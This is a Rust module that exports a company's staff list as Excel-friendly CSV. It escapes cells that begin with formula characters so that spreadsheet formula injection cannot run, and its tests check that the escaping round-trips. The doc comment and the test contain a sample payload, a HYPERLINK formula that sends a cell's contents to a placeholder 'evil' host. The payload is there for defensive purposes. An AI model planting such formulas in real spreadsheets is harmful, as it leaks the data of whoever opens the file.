//! A company's staff as a spreadsheet (CSV), for the customer to check and
//! send back: the same columns `vaihde import` reads, so the file goes round
//! trip.
//!
//! Spreadsheet programs run a cell that starts with `=`, `+`, `-` or `@` as
//! a formula, and names and notes come from strangers' files
//! (`=HYPERLINK("http://evil/?"&A1,"Click")`). Such cells are written with a
//! leading apostrophe, which the spreadsheet shows as text and hides;
//! importing the file back removes it again.

use crate::model::{Person, PhoneKind};

/// Characters that make a spreadsheet cell a formula (OWASP's list).
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    #[error("cannot write the spreadsheet: {0}")]
    Csv(#[from] csv::Error),
    #[error("cannot write the spreadsheet: {0}")]
    Encoding(#[from] std::string::FromUtf8Error),
}

/// A cell as safe spreadsheet text.
pub fn escape_cell(text: &str) -> String {
    if text.starts_with(FORMULA_START) { format!("'{text}") } else { text.to_string() }
}

/// The cell as it was before [`escape_cell`] (import reads exports back).
pub fn unescape_cell(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_START) => rest,
        _ => cell,
    }
}

/// `people` as CSV: `;`-separated (what Excel expects in Finland and
/// Sweden), UTF-8 with a byte-order mark so Excel reads ä and ö right.
pub fn staff_csv(people: &[Person]) -> Result<String, ExportError> {
    let mut w = csv::WriterBuilder::new().delimiter(b';').from_writer(Vec::new());
    w.write_record([
        "given name",
        "family name",
        "title",
        "department",
        "email",
        "extension",
        "direct",
        "mobile",
        "topics",
        "aliases",
        "notes",
    ])?;
    for p in people {
        let phone = |kind| p.phone(kind).map(|x| x.number.clone()).unwrap_or_default();
        let cells = [
            p.given_name.clone(),
            p.family_name.clone(),
            p.title.clone(),
            p.department.clone(),
            p.emails.join(", "),
            phone(PhoneKind::Extension),
            phone(PhoneKind::Direct),
            phone(PhoneKind::Mobile),
            p.topics.join(", "),
            p.aliases.join(", "),
            p.notes.clone(),
        ];
        w.write_record(cells.iter().map(|c| escape_cell(c)))?;
    }
    let bytes = w.into_inner().map_err(|e| ExportError::Csv(e.into_error().into()))?;
    Ok(format!("\u{feff}{}", String::from_utf8(bytes)?))
}

impl crate::words::Said for ExportError {
    fn phrase(&self) -> crate::words::Phrase {
        let detail = match self {
            ExportError::Csv(e) => e.to_string(),
            ExportError::Encoding(e) => e.to_string(),
        };
        crate::words::Phrase::new(crate::msg!("exportCannotWrite")).text("detail", detail)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_come_back() {
        for evil in ["=HYPERLINK(\"http://evil/\",\"x\")", "+358 40 123", "-1", "@SUM(A1)", "\tx"] {
            let safe = escape_cell(evil);
            assert!(safe.starts_with('\''), "{evil}");
            assert_eq!(unescape_cell(&safe), evil);
        }
        assert_eq!(escape_cell("Maija"), "Maija");
        assert_eq!(unescape_cell("'tis"), "'tis", "a real apostrophe stays");
    }
}
